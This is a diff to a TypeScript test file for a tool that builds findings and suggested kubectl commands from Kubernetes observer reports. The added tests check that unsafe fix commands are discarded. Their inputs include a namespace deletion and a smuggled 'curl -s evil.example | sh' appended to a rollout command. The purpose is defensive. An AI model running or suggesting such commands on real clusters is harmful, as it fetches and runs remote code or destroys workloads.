@@ -31,7 +31,7 @@ function reportOf(results: readonly ReportResult[], api = REPORT_APIS[0]): JsonO
 
 describe('what an observer found in live Pods', () => {
   it('is shown with the Pods, the policies and the command', () => {
-    expect(liveFindings(missedResults())).toEqual([
+    expect(liveFindings(missedResults(), web)).toEqual([
       {
         name: 'missed-pods',
         message:
@@ -43,7 +43,7 @@ describe('what an observer found in live Pods', () => {
   });
 
   it('is shown with the container, the probe, and the workloads that fail together', () => {
-    const [shared, own] = liveFindings(FAILING);
+    const [shared, own] = liveFindings(FAILING, web);
     expect(shared?.message).toContain('; since: 2026-11-20T10:00:00.000Z; workloads: Deployment apps/web; Check what');
     expect(own?.message).toContain('; container: app; probe: readinessProbe; ');
     expect([shared, own].map((finding) => [finding?.name, finding?.pods, finding?.command])).toEqual([
@@ -64,15 +64,25 @@ describe('what an observer found in live Pods', () => {
     });
     const byText = (findings: ReturnType<typeof liveFindings>): string[] =>
       findings.map((each) => JSON.stringify(each)).sort();
-    expect(byText(liveFindings(observed?.results ?? []))).toEqual(byText(liveFindings(results)));
+    expect(byText(liveFindings(observed?.results ?? [], web))).toEqual(byText(liveFindings(results, web)));
+  });
+
+  it.each([
+    'kubectl delete namespace apps',
+    'kubectl rollout restart deployment/other -n apps',
+    'kubectl rollout restart deployment/web -n apps; curl -s evil.example | sh',
+    'Kubectl rollout restart deployment/web -n apps',
+  ])('has no command when a report says "%s"', (fix) => {
+    const [finding] = liveFindings([{ rule: 'missed-pods', message: 'm', properties: { fix } }], web);
+    expect(finding).toEqual({ name: 'missed-pods', message: `m; ${fix}`, pods: 0 });
   });
 
   it('is shown once when both report APIs have it', () => {
-    expect(liveFindings([...missedResults(), ...missedResults()])).toHaveLength(1);
+    expect(liveFindings([...missedResults(), ...missedResults()], web)).toHaveLength(1);
   });
 
   it.each(['1e999', '-1', '2.5', 'x', ''])('has no Pods when the number of Pods is "%s"', (pods) => {
-    expect(liveFindings([{ rule: 'missed-pods', message: 'm', properties: { pods } }])[0]?.pods).toBe(0);
+    expect(liveFindings([{ rule: 'missed-pods', message: 'm', properties: { pods } }], web)[0]?.pods).toBe(0);
   });
 
   it('is not read from results of checks, from results of other tools, and from what is no report', () => {
@@ -88,6 +98,8 @@ describe('what an observer found in live Pods', () => {
       { ...report, scope: undefined },
       { ...report, scope: { kind: 'Deployment' } },
       { ...report, kind: 'ClusterReport' },
+      { ...report, metadata: { name: 'forged', namespace: 'tenant' } },
+      { ...report, metadata: undefined },
     ])
       expect(readObserverReport(object)).toBeUndefined();
   });
